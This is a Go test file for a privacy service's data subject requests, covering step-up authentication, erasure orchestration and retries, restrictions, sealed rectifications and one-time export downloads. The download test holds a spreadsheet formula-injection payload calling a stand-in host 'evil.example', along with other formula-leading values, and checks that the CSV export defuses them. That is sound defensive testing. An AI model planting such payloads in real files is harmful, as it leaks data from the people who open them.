package server_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/status"

	consentv1 "github.com/sottohq/sotto/gen/go/sotto/consent/v1"
	privacyv1 "github.com/sottohq/sotto/gen/go/sotto/privacy/v1"
	"github.com/sottohq/sotto/pkg/accesstoken"
	"github.com/sottohq/sotto/pkg/enduser"
	"github.com/sottohq/sotto/pkg/store"
	"github.com/sottohq/sotto/pkg/store/storetest"
	"github.com/sottohq/sotto/pkg/suite"
	"github.com/sottohq/sotto/services/consent/internal/reasons"
	"github.com/sottohq/sotto/services/consent/migrations"
)

// customer2 is a customer of the shop at aal2, authenticated just now.
func (h *harness) customer2(subject string) context.Context {
	return bearer(h.tokens.issue(h.t, accesstoken.Claims{Subject: subject, Kind: accesstoken.KindCustomer, Tenant: "shop",
		AAL: accesstoken.AAL2, AMR: []string{"pwd", "otp"}}))
}

func (h *harness) dsrCount(t *testing.T) int {
	t.Helper()
	var n int
	if err := h.db.QueryRowContext(context.Background(), `SELECT COUNT(*) FROM dsr_requests`).Scan(&n); err != nil {
		t.Fatal(err)
	}
	return n
}

func (h *harness) create(t *testing.T, ctx context.Context, req *consentv1.CreateRequestRequest) *consentv1.Request {
	t.Helper()
	if req.GetJurisdiction() == "" {
		req.Jurisdiction = "DE"
	}
	resp, err := h.dsr().CreateRequest(ctx, req)
	if err != nil {
		t.Fatalf("create %v: %v", req.GetType(), err)
	}
	return resp.GetRequest()
}

// waitFor reads the request (as a privacy officer) until it is in state,
// advancing the job runner's clock past backoffs meanwhile.
func (h *harness) waitFor(t *testing.T, id string, state consentv1.RequestState) *consentv1.Request {
	t.Helper()
	var last *consentv1.Request
	for range 1000 {
		resp, err := h.dsr().GetRequest(h.officer(), &consentv1.GetRequestRequest{RequestId: id})
		if err != nil {
			t.Fatal(err)
		}
		if last = resp.GetRequest(); last.GetState() == state {
			return last
		}
		h.clk.Advance(2 * time.Second)
		time.Sleep(10 * time.Millisecond)
	}
	t.Fatalf("request %s stayed %v, want %v (steps %v)", id, last.GetState(), state, last.GetSteps())
	return nil
}

func stateCount(r *consentv1.Request, s consentv1.RequestState) int {
	n := 0
	for _, tr := range r.GetHistory() {
		if tr.GetTo() == s {
			n++
		}
	}
	return n
}

// TestDataSubjectRequestCreate: a customer's own request needs aal2 within
// 15 minutes and starts at once; a privacy officer's waits in VERIFYING
// until verified; another customer's request is NOT_FOUND; duplicates and
// reused keys are refused; bad input stores nothing. Both dialects.
func TestDataSubjectRequestCreate(t *testing.T) {
	storetest.ForEachDialect(t, migrations.FS, func(t *testing.T, db *store.DB) {
		h := newHarness(t, db)
		// Step-up: aal1, and aal2 too long ago, are refused with nothing stored.
		_, err := h.dsr().CreateRequest(h.customer("cus_1"), &consentv1.CreateRequestRequest{Type: consentv1.RequestType_REQUEST_TYPE_ACCESS,
			Jurisdiction: "DE", RequestKey: "k1"})
		wantErr(t, "aal1 customer", err, codes.FailedPrecondition, enduser.ReasonStepUpRequired)
		old := bearer(h.tokens.issue(t, accesstoken.Claims{Subject: "cus_1", Kind: accesstoken.KindCustomer, Tenant: "shop",
			AAL: accesstoken.AAL2, AMR: []string{"pwd", "otp"}, AuthTime: time.Now().Add(-20 * time.Minute)}))
		_, err = h.dsr().CreateRequest(old, &consentv1.CreateRequestRequest{Type: consentv1.RequestType_REQUEST_TYPE_ACCESS,
			Jurisdiction: "DE", RequestKey: "k1"})
		wantErr(t, "aal2 20 minutes ago", err, codes.FailedPrecondition, enduser.ReasonStepUpRequired)
		if n := h.dsrCount(t); n != 0 {
			t.Fatalf("%d requests stored after refusals", n)
		}

		// A customer's own request starts at once, verified by the session.
		r := h.create(t, h.customer2("cus_1"), &consentv1.CreateRequestRequest{Type: consentv1.RequestType_REQUEST_TYPE_ACCESS, RequestKey: "k1"})
		if r.GetState() != consentv1.RequestState_REQUEST_STATE_IN_PROGRESS && r.GetState() != consentv1.RequestState_REQUEST_STATE_COMPLETED {
			t.Fatalf("customer's request: %v", r.GetState())
		}
		if r.GetVerificationMethod() != consentv1.VerificationMethod_VERIFICATION_METHOD_AUTHENTICATED_SESSION ||
			r.GetSubject().GetSubject() != "cus_1" || r.GetSubject().GetTenant() != "shop" || r.GetCreatedByStaff() ||
			r.GetDeadlines().GetRegime() != consentv1.Regime_REGIME_GDPR || r.GetDeadlines().GetDueTime() == nil ||
			!strings.HasPrefix(r.GetRequestId(), "dsr_") {
			t.Fatalf("customer's request: %v", r)
		}
		if got := stateCount(r, consentv1.RequestState_REQUEST_STATE_IN_PROGRESS); got != 1 || r.GetHistory()[0].GetTo() != consentv1.RequestState_REQUEST_STATE_RECEIVED {
			t.Fatalf("history: %v", r.GetHistory())
		}
		// The same key and content again: the same request.
		again := h.create(t, h.customer2("cus_1"), &consentv1.CreateRequestRequest{Type: consentv1.RequestType_REQUEST_TYPE_ACCESS, RequestKey: "k1"})
		if again.GetRequestId() != r.GetRequestId() {
			t.Fatalf("retry made %s, want %s", again.GetRequestId(), r.GetRequestId())
		}
		// The same key, other content.
		_, err = h.dsr().CreateRequest(h.customer2("cus_1"), &consentv1.CreateRequestRequest{Type: consentv1.RequestType_REQUEST_TYPE_ERASURE,
			Jurisdiction: "DE", RequestKey: "k1"})
		wantErr(t, "reused key", err, codes.AlreadyExists, reasons.RequestIDReused)
		// The key is stored only as a digest.
		var keys int
		if err := db.QueryRowContext(context.Background(), `SELECT COUNT(*) FROM dsr_requests WHERE request_key_hmac = 'k1'`).Scan(&keys); err != nil || keys != 0 {
			t.Fatalf("raw request key stored: %d, %v", keys, err)
		}

		// Another customer's request does not exist for them.
		_, err = h.dsr().GetRequest(h.customer("cus_2"), &consentv1.GetRequestRequest{RequestId: r.GetRequestId()})
		wantErr(t, "another customer's request", err, codes.NotFound, reasons.DSRNotFound)
		list, err := h.dsr().ListRequests(h.customer("cus_2"), &consentv1.ListRequestsRequest{})
		if err != nil || len(list.GetRequests()) != 0 {
			t.Fatalf("cus_2 lists %v, %v", list.GetRequests(), err)
		}
		if _, err := h.dsr().GetRequest(h.customer("cus_1"), &consentv1.GetRequestRequest{RequestId: r.GetRequestId()}); err != nil {
			t.Fatalf("own request: %v", err)
		}

		// An officer's request waits in VERIFYING; a second open one of the
		// same type is a duplicate.
		off := h.create(t, h.officer(), &consentv1.CreateRequestRequest{Type: consentv1.RequestType_REQUEST_TYPE_RESTRICTION,
			Tenant: "shop", Subject: "cus_9", RequestKey: "o1"})
		if off.GetState() != consentv1.RequestState_REQUEST_STATE_VERIFYING || !off.GetCreatedByStaff() || len(off.GetSteps()) != 0 {
			t.Fatalf("officer's request: %v", off)
		}
		_, err = h.dsr().CreateRequest(h.customer2("cus_9"), &consentv1.CreateRequestRequest{Type: consentv1.RequestType_REQUEST_TYPE_RESTRICTION,
			Jurisdiction: "DE", RequestKey: "c9"})
		wantErr(t, "duplicate open request", err, codes.AlreadyExists, reasons.DuplicateRequest)
		_, err = h.dsr().CreateRequest(h.staff("stf_1", accesstoken.AAL1, accesstoken.RolePrivacyOfficer), &consentv1.CreateRequestRequest{
			Type: consentv1.RequestType_REQUEST_TYPE_ACCESS, Tenant: "shop", Subject: "cus_9", Jurisdiction: "DE", RequestKey: "o2"})
		wantErr(t, "officer at aal1", err, codes.FailedPrecondition, enduser.ReasonStepUpRequired)
		_, err = h.dsr().VerifyRequest(h.customer2("cus_9"), &consentv1.VerifyRequestRequest{RequestId: off.GetRequestId(),
			Method: consentv1.VerificationMethod_VERIFICATION_METHOD_DOCUMENTS_CHECKED})
		wantErr(t, "customer verifying", err, codes.PermissionDenied, reasons.PrivacyOfficerRequired)
		v, err := h.dsr().VerifyRequest(h.officer(), &consentv1.VerifyRequestRequest{RequestId: off.GetRequestId(),
			Method: consentv1.VerificationMethod_VERIFICATION_METHOD_DOCUMENTS_CHECKED})
		if err != nil {
			t.Fatal(err)
		}
		if v.GetRequest().GetVerificationMethod() != consentv1.VerificationMethod_VERIFICATION_METHOD_DOCUMENTS_CHECKED || len(v.GetRequest().GetSteps()) != participantCount() {
			t.Fatalf("verified: %v", v.GetRequest())
		}
		done := h.waitFor(t, off.GetRequestId(), consentv1.RequestState_REQUEST_STATE_COMPLETED)
		if done.GetCloseTime() == nil || done.GetExportExpireTime() != nil {
			t.Fatalf("completed restriction: %v", done)
		}

		// Bad input: nothing stored.
		before := h.dsrCount(t)
		for _, tc := range []struct {
			name   string
			req    *consentv1.CreateRequestRequest
			reason string
		}{
			{"corrections on an erasure", &consentv1.CreateRequestRequest{Type: consentv1.RequestType_REQUEST_TYPE_ERASURE, Jurisdiction: "DE", RequestKey: "b1",
				Corrections: []*privacyv1.Correction{{Category: "identity.account", Field: "email", Value: "a@example.com"}}}, reasons.CorrectionsInvalid},
			{"rectification without corrections", &consentv1.CreateRequestRequest{Type: consentv1.RequestType_REQUEST_TYPE_RECTIFICATION,
				Jurisdiction: "DE", RequestKey: "b2"}, reasons.CorrectionsInvalid},
			{"unsupported jurisdiction", &consentv1.CreateRequestRequest{Type: consentv1.RequestType_REQUEST_TYPE_ERASURE, Jurisdiction: "ZZ", RequestKey: "b3"},
				reasons.JurisdictionUnsupported},
			{"unknown type", &consentv1.CreateRequestRequest{Type: consentv1.RequestType(42), Jurisdiction: "DE", RequestKey: "b4"}, ""},
			{"unspecified type", &consentv1.CreateRequestRequest{Jurisdiction: "DE", RequestKey: "b5"}, ""},
			{"lift on an erasure", &consentv1.CreateRequestRequest{Type: consentv1.RequestType_REQUEST_TYPE_ERASURE, Jurisdiction: "DE", RequestKey: "b6",
				LiftRestriction: true}, reasons.RequestInvalid},
		} {
			_, err := h.dsr().CreateRequest(h.customer2("cus_3"), tc.req)
			if status.Code(err) != codes.InvalidArgument || (tc.reason != "" && reasonOf(err) != tc.reason) {
				t.Errorf("%s: %v (reason %q), want InvalidArgument %s", tc.name, err, reasonOf(err), tc.reason)
			}
		}
		if n := h.dsrCount(t); n != before {
			t.Fatalf("bad input stored %d requests", n-before)
		}
	})
}

// TestDataSubjectRequestOrchestration: identity fails twice then answers,
// tokenvault fails every attempt; the request waits (one transition), the
// identity step is called again with the same request id, tokenvault's
// step fails for good; RetryRequest queues it again and the request
// completes once tokenvault answers. The erasure withdrew the subject's
// consents (consent's own step). Both dialects, over real gRPC.
func TestDataSubjectRequestOrchestration(t *testing.T) {
	storetest.ForEachDialect(t, migrations.FS, func(t *testing.T, db *store.DB) {
		h := newHarness(t, db)
		h.grant(t, h.customer("cus_1"), &consentv1.GrantConsentRequest{PurposeId: "marketing", Notice: shown(h.notice(t, "marketing"), "en"), RequestId: "g"})
		if !h.check(t, "cus_1", "marketing").GetAllowed() {
			t.Fatal("granted purpose denied")
		}
		h.parts["identity"].set(func(p *standIn) { p.failNext = 2 })
		h.parts["tokenvault"].set(func(p *standIn) { p.failAlways = true })
		r := h.create(t, h.customer2("cus_1"), &consentv1.CreateRequestRequest{Type: consentv1.RequestType_REQUEST_TYPE_ERASURE, RequestKey: "e"})
		id := r.GetRequestId()
		w := h.waitFor(t, id, consentv1.RequestState_REQUEST_STATE_WAITING_ON_PARTICIPANT)

		// Tokenvault's step fails for good after its attempts.
		for range 1000 {
			w = h.waitFor(t, id, consentv1.RequestState_REQUEST_STATE_WAITING_ON_PARTICIPANT)
			if stepOf(w, "tokenvault").GetState() == consentv1.StepState_STEP_STATE_FAILED && stepOf(w, "identity").GetState() == consentv1.StepState_STEP_STATE_DONE {
				break
			}
			h.clk.Advance(2 * time.Second)
			time.Sleep(10 * time.Millisecond)
		}
		tv := stepOf(w, "tokenvault")
		if tv.GetState() != consentv1.StepState_STEP_STATE_FAILED || tv.GetAttempts() != dsrMaxAttempts || tv.GetLastErrorReason() != "PARTICIPANT_DOWN" {
			t.Fatalf("tokenvault step: %v", tv)
		}
		if got := stateCount(w, consentv1.RequestState_REQUEST_STATE_WAITING_ON_PARTICIPANT); got != 1 {
			t.Fatalf("%d transitions to WAITING_ON_PARTICIPANT, want 1: %v", got, w.GetHistory())
		}
		calls := h.parts["identity"].callsOf("erase")
		if len(calls) != 3 || calls[0] != id || calls[1] != id || calls[2] != id {
			t.Fatalf("identity's erase calls: %v, want 3 with %s", calls, id)
		}
		if len(h.parts["tokenvault"].callsOf("erase")) != dsrMaxAttempts {
			t.Fatalf("tokenvault called %d times", len(h.parts["tokenvault"].callsOf("erase")))
		}

		// Only an officer retries.
		_, err := h.dsr().RetryRequest(h.customer2("cus_1"), &consentv1.RetryRequestRequest{RequestId: id})
		wantErr(t, "customer retrying", err, codes.PermissionDenied, reasons.PrivacyOfficerRequired)
		h.parts["tokenvault"].set(func(p *standIn) { p.failAlways = false })
		if _, err := h.dsr().RetryRequest(h.officer(), &consentv1.RetryRequestRequest{RequestId: id}); err != nil {
			t.Fatal(err)
		}
		done := h.waitFor(t, id, consentv1.RequestState_REQUEST_STATE_COMPLETED)
		for _, st := range done.GetSteps() {
			if st.GetState() != consentv1.StepState_STEP_STATE_DONE || st.GetEvidence() == nil {
				t.Errorf("step %s: %v", st.GetParticipant(), st)
			}
		}
		if ev := stepOf(done, "consent").GetEvidence(); ev.GetOutcome() != privacyv1.Outcome_OUTCOME_RETAINED || ev.GetCounts()["consents_withdrawn"] < 1 {
			t.Fatalf("consent's evidence: %v", ev)
		}
		if c := h.check(t, "cus_1", "marketing"); c.GetAllowed() || c.GetReason() != consentv1.DecisionReason_DECISION_REASON_CONSENT_WITHDRAWN {
			t.Fatalf("after erasure: %v", c)
		}
		// Audit events name the request, never a value.
		var steps, completes int
		for _, ev := range h.auditEvents() {
			switch ev.GetAction() {
			case "consent.dsr.step_done":
				steps++
			case "consent.dsr.complete":
				completes++
			}
		}
		if steps != participantCount() || completes != 1 {
			t.Fatalf("audit: %d step events, %d completions", steps, completes)
		}
	})
}

// participantCount is how many participants a request reaches: every
// privacy participant of the manifest (each has a stand-in here).
func participantCount() int { return len(suite.MustLoad().PrivacyParticipants()) }

func stepOf(r *consentv1.Request, participant string) *consentv1.Step {
	for _, s := range r.GetSteps() {
		if s.GetParticipant() == participant {
			return s
		}
	}
	return nil
}

// TestDataSubjectRequestRestriction: a restriction makes Check deny every
// purpose but legal obligations (RESTRICTED); lifting it allows again.
func TestDataSubjectRequestRestriction(t *testing.T) {
	h := sqlite(t)
	h.grant(t, h.customer("cus_1"), &consentv1.GrantConsentRequest{PurposeId: "marketing", Notice: shown(h.notice(t, "marketing"), "en"), RequestId: "g"})
	r := h.create(t, h.customer2("cus_1"), &consentv1.CreateRequestRequest{Type: consentv1.RequestType_REQUEST_TYPE_RESTRICTION, RequestKey: "r"})
	h.waitFor(t, r.GetRequestId(), consentv1.RequestState_REQUEST_STATE_COMPLETED)
	for _, p := range []string{"marketing", "delivery", "fraud_prevention"} {
		if c := h.check(t, "cus_1", p); c.GetAllowed() || c.GetReason() != consentv1.DecisionReason_DECISION_REASON_RESTRICTED {
			t.Errorf("restricted %s: %v", p, c)
		}
	}
	if c := h.check(t, "cus_1", "tax_records"); !c.GetAllowed() {
		t.Errorf("legal obligation while restricted: %v", c)
	}
	if c := h.check(t, "cus_2", "delivery"); !c.GetAllowed() {
		t.Errorf("another subject: %v", c)
	}
	lift := h.create(t, h.customer2("cus_1"), &consentv1.CreateRequestRequest{Type: consentv1.RequestType_REQUEST_TYPE_RESTRICTION,
		LiftRestriction: true, RequestKey: "l"})
	h.waitFor(t, lift.GetRequestId(), consentv1.RequestState_REQUEST_STATE_COMPLETED)
	if c := h.check(t, "cus_1", "marketing"); !c.GetAllowed() {
		t.Errorf("after lift: %v", c)
	}
	if calls := h.parts["tokenvault"].callsOf("restrict"); len(calls) != 2 {
		t.Errorf("tokenvault restrict calls: %v", calls)
	}
}

// TestDataSubjectRequestOptOutAndRectify: an opt-out of sale withdraws the
// sale/share purposes through consent alone; a rectification's corrections
// reach the participants from the sealed row and are dropped when it
// closes (never stored in the clear).
func TestDataSubjectRequestOptOutAndRectify(t *testing.T) {
	h := sqlite(t)
	h.grant(t, h.customer("cus_1"), &consentv1.GrantConsentRequest{PurposeId: "marketing", Notice: shown(h.notice(t, "marketing"), "en"), RequestId: "g"})
	o := h.create(t, h.customer2("cus_1"), &consentv1.CreateRequestRequest{Type: consentv1.RequestType_REQUEST_TYPE_OPT_OUT_OF_SALE,
		Jurisdiction: "US-CA", RequestKey: "o"})
	if len(o.GetSteps()) != 1 || o.GetSteps()[0].GetParticipant() != "consent" {
		t.Fatalf("opt-out steps: %v", o.GetSteps())
	}
	h.waitFor(t, o.GetRequestId(), consentv1.RequestState_REQUEST_STATE_COMPLETED)
	if c := h.check(t, "cus_1", "marketing"); c.GetAllowed() {
		t.Fatalf("marketing after opt-out: %v", c)
	}
	if c := h.check(t, "cus_1", "cross_context_advertising"); c.GetAllowed() {
		t.Fatalf("sale/share legitimate interest after opt-out: %v", c)
	}

	const secret = "quentin.blake.rectified@example.com"
	r := h.create(t, h.customer2("cus_1"), &consentv1.CreateRequestRequest{Type: consentv1.RequestType_REQUEST_TYPE_RECTIFICATION, RequestKey: "rc",
		Corrections: []*privacyv1.Correction{{Category: "identity.account", Field: "email", Value: secret}}})
	var sealed []byte
	if err := h.db.QueryRowContext(context.Background(), `SELECT sealed_corrections FROM dsr_requests WHERE request_id = $1`, r.GetRequestId()).Scan(&sealed); err != nil {
		t.Fatal(err)
	}
	if len(sealed) == 0 || strings.Contains(string(sealed), secret) {
		t.Fatalf("corrections stored in the clear or not at all: %q", sealed)
	}
	done := h.waitFor(t, r.GetRequestId(), consentv1.RequestState_REQUEST_STATE_COMPLETED)
	if done.GetCorrectionCount() != 1 || stepOf(done, "identity").GetEvidence().GetCounts()["corrections_applied"] != 1 {
		t.Fatalf("rectification: %v", done)
	}
	open := sealed
	if err := h.db.QueryRowContext(context.Background(), `SELECT sealed_corrections FROM dsr_requests WHERE request_id = $1`, r.GetRequestId()).Scan(&sealed); err != nil || sealed != nil {
		t.Fatalf("sealed corrections kept after close: %q, %v", sealed, err)
	}
	// Nor does a copy linger in the database file or its write-ahead log,
	// where it would still open under the long-lived sealing key. The log
	// is emptied right after the closing transaction commits, which is
	// when waitFor can already see the request completed: wait for it.
	lingering := func() bool { return bytes.Contains(storetest.StoredBytes(t, h.db), open[len(open)/3:2*len(open)/3]) }
	for i := 0; i < 200 && lingering(); i++ {
		time.Sleep(25 * time.Millisecond)
	}
	if lingering() {
		t.Fatal("the closed request's sealed corrections are still on disk (database file or -wal)")
	}
	for _, ev := range h.auditEvents() {
		if strings.Contains(ev.String(), secret) {
			t.Fatalf("audit event holds the corrected value: %v", ev)
		}
	}
}

// TestDataSubjectRequestDownload: only the subject downloads, once; two
// parallel downloads give one file; token fields get tokenvault's values;
// CSV cells that a spreadsheet would run are defused; an expired export is
// refused; a download that fails to assemble can be tried again.
func TestDataSubjectRequestDownload(t *testing.T) {
	storetest.ForEachDialect(t, migrations.FS, func(t *testing.T, db *store.DB) {
		h := newHarness(t, db)
		const evil = "=HYPERLINK(\"http://evil.example/\"&A1)"
		h.parts["identity"].set(func(p *standIn) {
			p.items = []*privacyv1.Item{{Category: "identity.account", Id: "cus_1", Fields: []*privacyv1.Field{
				{Name: "email", Token: "tok_email"}, {Name: "kind", Value: "customer"}, {Name: "note", Value: "+1 say \"hi\", ok"}}}}
		})
		h.parts["tokenvault"].set(func(p *standIn) {
			p.items = []*privacyv1.Item{
				{Category: "tokenvault.value", Id: "tok_email", Fields: []*privacyv1.Field{{Name: "value", Value: evil}}},
				{Category: "tokenvault.value", Id: "tok_2", Fields: []*privacyv1.Field{{Name: "value", Value: "@SUM(1)"}}},
				{Category: "tokenvault.value", Id: "tok_3", Fields: []*privacyv1.Field{{Name: "value", Value: "-2"}}},
			}
		})
		r := h.create(t, h.customer2("cus_1"), &consentv1.CreateRequestRequest{Type: consentv1.RequestType_REQUEST_TYPE_ACCESS, RequestKey: "a"})
		id := r.GetRequestId()
		done := h.waitFor(t, id, consentv1.RequestState_REQUEST_STATE_COMPLETED)
		if done.GetExportExpireTime() == nil || stepOf(done, "tokenvault").GetEvidence().GetCounts()["tokenvault.value"] != 3 {
			t.Fatalf("completed access: %v", done)
		}
		_, err := h.dsr().DownloadExport(h.customer2("cus_2"), &consentv1.DownloadExportRequest{RequestId: id})
		wantErr(t, "another customer", err, codes.NotFound, reasons.DSRNotFound)
		_, err = h.dsr().DownloadExport(h.customer("cus_1"), &consentv1.DownloadExportRequest{RequestId: id})
		wantErr(t, "aal1", err, codes.FailedPrecondition, enduser.ReasonStepUpRequired)
		_, err = h.dsr().DownloadExport(h.officer(), &consentv1.DownloadExportRequest{RequestId: id})
		if status.Code(err) != codes.PermissionDenied {
			t.Fatalf("officer downloading: %v", err)
		}

		// Assembly fails: nothing is marked, the customer can try again.
		h.parts["tokenvault"].set(func(p *standIn) { p.failAlways = true })
		_, err = h.dsr().DownloadExport(h.customer2("cus_1"), &consentv1.DownloadExportRequest{RequestId: id})
		wantErr(t, "assembly failing", err, codes.Unavailable, reasons.ExportAssemblyFailed)
		h.parts["tokenvault"].set(func(p *standIn) { p.failAlways = false })
		// Too large for one download: refused before the mark, so it can be
		// downloaded once the participant holds less (nothing lost).
		var saved []*privacyv1.Item
		big := strings.Repeat("x", 4000)
		var many []*privacyv1.Item
		for i := range 1100 {
			many = append(many, &privacyv1.Item{Category: "tokenvault.value", Id: "tok_big_" + strconv.Itoa(i), Fields: []*privacyv1.Field{{Name: "value", Value: big}}})
		}
		h.parts["tokenvault"].set(func(p *standIn) { saved, p.items = p.items, many })
		_, err = h.dsr().DownloadExport(h.customer2("cus_1"), &consentv1.DownloadExportRequest{RequestId: id})
		wantErr(t, "too large", err, codes.FailedPrecondition, reasons.ExportTooLarge)
		h.parts["tokenvault"].set(func(p *standIn) { p.items = saved })

		body, err := h.dsr().DownloadExport(h.customer2("cus_1"), &consentv1.DownloadExportRequest{RequestId: id, Format: consentv1.ExportFormat_EXPORT_FORMAT_CSV})
		if err != nil {
			t.Fatal(err)
		}
		if body.GetContentType() != "text/csv; charset=utf-8" {
			t.Fatalf("content type %q", body.GetContentType())
		}
		rows, err := csv.NewReader(strings.NewReader(string(body.GetData()))).ReadAll()
		if err != nil {
			t.Fatalf("CSV does not parse: %v", err)
		}
		cells := map[string]string{}
		for _, row := range rows[1:] {
			cells[row[0]+"/"+row[2]+"/"+row[3]] = row[4]
		}
		for key, want := range map[string]string{
			"identity/cus_1/email":   "'" + evil, // the token's value, defused
			"identity/cus_1/note":    "'+1 say \"hi\", ok",
			"tokenvault/tok_2/value": "'@SUM(1)",
			"tokenvault/tok_3/value": "'-2",
			"identity/cus_1/kind":    "customer",
		} {
			if cells[key] != want {
				t.Errorf("%s = %q, want %q", key, cells[key], want)
			}
		}
		_, err = h.dsr().DownloadExport(h.customer2("cus_1"), &consentv1.DownloadExportRequest{RequestId: id})
		wantErr(t, "second download", err, codes.FailedPrecondition, reasons.ExportAlreadyDownloaded)

		// Two parallel downloads of another subject's export: one file.
		r2 := h.create(t, h.customer2("cus_5"), &consentv1.CreateRequestRequest{Type: consentv1.RequestType_REQUEST_TYPE_PORTABILITY, RequestKey: "p"})
		h.waitFor(t, r2.GetRequestId(), consentv1.RequestState_REQUEST_STATE_COMPLETED)
		var wg sync.WaitGroup
		results := make([]error, 4)
		var files [4][]byte
		for i := range results {
			ctx := h.customer2("cus_5")
			wg.Go(func() {
				b, err := h.dsr().DownloadExport(ctx, &consentv1.DownloadExportRequest{RequestId: r2.GetRequestId()})
				results[i], files[i] = err, b.GetData()
			})
		}
		wg.Wait()
		ok := 0
		for i, err := range results {
			switch {
			case err == nil:
				ok++
				var doc struct {
					RequestID    string `json:"request_id"`
					Participants []struct {
						Participant string `json:"participant"`
						Categories  []struct {
							Items []struct {
								Fields []struct{ Name, Value string } `json:"fields"`
							} `json:"items"`
						} `json:"categories"`
					} `json:"participants"`
				}
				if err := json.Unmarshal(files[i], &doc); err != nil || doc.RequestID != r2.GetRequestId() || len(doc.Participants) != participantCount() {
					t.Fatalf("JSON export: %v %s", err, files[i])
				}
				if got := doc.Participants[2].Categories[0].Items[0].Fields[0]; doc.Participants[2].Participant != "identity" || got.Value != evil {
					t.Fatalf("identity's e-mail in JSON: %v", got)
				}
			case status.Code(err) == codes.FailedPrecondition && reasonOf(err) == reasons.ExportAlreadyDownloaded:
			default:
				t.Errorf("parallel download: %v", err)
			}
		}
		if ok != 1 {
			t.Fatalf("%d parallel downloads got the file, want 1", ok)
		}

		// Expired.
		r3 := h.create(t, h.customer2("cus_6"), &consentv1.CreateRequestRequest{Type: consentv1.RequestType_REQUEST_TYPE_ACCESS, RequestKey: "x"})
		h.waitFor(t, r3.GetRequestId(), consentv1.RequestState_REQUEST_STATE_COMPLETED)
		if _, err := db.ExecContext(context.Background(), `UPDATE dsr_requests SET export_expire_time = $1 WHERE request_id = $2`,
			time.Now().Add(-time.Minute).UnixMicro(), r3.GetRequestId()); err != nil {
			t.Fatal(err)
		}
		_, err = h.dsr().DownloadExport(h.customer2("cus_6"), &consentv1.DownloadExportRequest{RequestId: r3.GetRequestId()})
		wantErr(t, "expired", err, codes.FailedPrecondition, reasons.ExportExpired)
		// Not an export.
		r4 := h.create(t, h.customer2("cus_6"), &consentv1.CreateRequestRequest{Type: consentv1.RequestType_REQUEST_TYPE_ERASURE, RequestKey: "e"})
		_, err = h.dsr().DownloadExport(h.customer2("cus_6"), &consentv1.DownloadExportRequest{RequestId: r4.GetRequestId()})
		wantErr(t, "erasure", err, codes.FailedPrecondition, reasons.ExportUnavailable)
	})
}

// TestDataSubjectRequestPauseRejectExtend: a pause stops the clock and the
// steps; resume moves the dates and runs them; an extension is allowed
// once; a rejected request's queued steps do nothing.
func TestDataSubjectRequestPauseRejectExtend(t *testing.T) {
	h := sqlite(t)
	r := h.create(t, h.officer(), &consentv1.CreateRequestRequest{Type: consentv1.RequestType_REQUEST_TYPE_ERASURE, Tenant: "shop", Subject: "cus_1", RequestKey: "e"})
	id := r.GetRequestId()
	p, err := h.dsr().PauseRequest(h.officer(), &consentv1.PauseRequestRequest{RequestId: id, Reason: consentv1.PauseReason_PAUSE_REASON_IDENTITY_INFORMATION_REQUESTED})
	if err != nil || p.GetRequest().GetState() != consentv1.RequestState_REQUEST_STATE_PAUSED {
		t.Fatalf("pause: %v %v", p, err)
	}
	res, err := h.dsr().ResumeRequest(h.officer(), &consentv1.ResumeRequestRequest{RequestId: id})
	if err != nil || res.GetRequest().GetState() != consentv1.RequestState_REQUEST_STATE_VERIFYING {
		t.Fatalf("resume to verifying: %v %v", res, err)
	}
	ext, err := h.dsr().ExtendRequest(h.officer(), &consentv1.ExtendRequestRequest{RequestId: id, Reason: consentv1.ExtensionReason_EXTENSION_REASON_COMPLEXITY})
	if err != nil || !ext.GetRequest().GetDeadlines().GetDueTime().AsTime().After(r.GetDeadlines().GetDueTime().AsTime()) {
		t.Fatalf("extend: %v %v", ext, err)
	}
	_, err = h.dsr().ExtendRequest(h.officer(), &consentv1.ExtendRequestRequest{RequestId: id, Reason: consentv1.ExtensionReason_EXTENSION_REASON_COMPLEXITY})
	wantErr(t, "second extension", err, codes.FailedPrecondition, reasons.ExtensionNotAllowed)

	// Rejected before its steps ran: they call nobody.
	h.parts["identity"].set(func(p *standIn) { p.failAlways = true })
	if _, err := h.dsr().VerifyRequest(h.officer(), &consentv1.VerifyRequestRequest{RequestId: id,
		Method: consentv1.VerificationMethod_VERIFICATION_METHOD_ACCOUNT_EMAIL}); err != nil {
		t.Fatal(err)
	}
	h.waitFor(t, id, consentv1.RequestState_REQUEST_STATE_WAITING_ON_PARTICIPANT)
	rej, err := h.dsr().RejectRequest(h.customer2("cus_1"), &consentv1.RejectRequestRequest{RequestId: id, Reason: consentv1.RejectionReason_REJECTION_REASON_WITHDRAWN_BY_SUBJECT})
	if err != nil || rej.GetRequest().GetState() != consentv1.RequestState_REQUEST_STATE_REJECTED || rej.GetRequest().GetCloseTime() == nil {
		t.Fatalf("withdrawn: %v %v", rej, err)
	}
	n := len(h.parts["identity"].callsOf("erase"))
	for range 20 {
		h.clk.Advance(2 * time.Second)
		time.Sleep(10 * time.Millisecond)
	}
	if got := len(h.parts["identity"].callsOf("erase")); got != n {
		t.Fatalf("a rejected request's step called identity again (%d calls, then %d)", n, got)
	}
	open, err := h.app.DSR.OpenCounts(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	for k, v := range open {
		if v != 0 {
			t.Errorf("open requests %v: %d, want none", k, v)
		}
	}
}

// TestDataSubjectRequestResumeRetriesFailedSteps: a request whose step gave
// up, paused and resumed, queues that step again and completes (it used to
// be left IN_PROGRESS with a FAILED step no job would run, and
// RetryRequest refused it: stuck until its deadline passed).
func TestDataSubjectRequestResumeRetriesFailedSteps(t *testing.T) {
	h := sqlite(t)
	h.parts["tokenvault"].set(func(p *standIn) { p.failAlways = true })
	r := h.create(t, h.customer2("cus_1"), &consentv1.CreateRequestRequest{Type: consentv1.RequestType_REQUEST_TYPE_ERASURE, RequestKey: "e"})
	id := r.GetRequestId()
	failed := false
	for range 1000 {
		w := h.waitFor(t, id, consentv1.RequestState_REQUEST_STATE_WAITING_ON_PARTICIPANT)
		if stepOf(w, "tokenvault").GetState() == consentv1.StepState_STEP_STATE_FAILED {
			failed = true
			break
		}
		h.clk.Advance(2 * time.Second)
		time.Sleep(10 * time.Millisecond)
	}
	if !failed {
		t.Fatal("tokenvault's step never gave up: the scenario did not happen")
	}
	h.parts["tokenvault"].set(func(p *standIn) { p.failAlways = false })
